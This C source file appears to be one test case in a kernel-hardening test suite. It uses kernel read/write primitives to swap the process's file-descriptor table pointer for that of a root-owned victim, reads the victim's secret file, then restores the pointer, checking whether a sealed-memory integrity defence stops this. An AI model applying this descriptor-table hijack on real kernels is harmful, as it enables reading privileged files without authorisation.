// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "swap_part", "cred_integrity: descriptors are not those of the table",
       "The program bends the way to its descriptors from 64 on to those of a program of root.",
       "Each part of a table of descriptors says in sealed memory whose it is.",
       "The files that root's program has open there are its own.");

#define VICTIM_FILE 70

static bool control(void)
{
	return is_ordinary();
}

static uint64_t second_part(uint64_t task)
{
	return peek(peek(task + member("task.files")) + member("file_table.parts")) + 8;
}

static bool fire(void)
{
	const uint64_t task = own_task();
	char bytes[sizeof(SECRET) - 1] = { 0 };
	uint64_t slot, before;

	call2(__NR_dup2, 0, VICTIM_FILE);
	slot = second_part(task);
	before = peek(slot);
	poke(slot, peek(second_part(victim_task(task))));
	call4(__NR_pread64, VICTIM_FILE, (long)bytes, sizeof(bytes), 0);
	poke(slot, before);
	return bytes_equal(bytes, SECRET, sizeof(bytes));
}

static void victim(void)
{
	call2(__NR_dup2, call3(__NR_open, (long)PRIZE, O_RDONLY, 0), VICTIM_FILE);
	victim_waits();
}
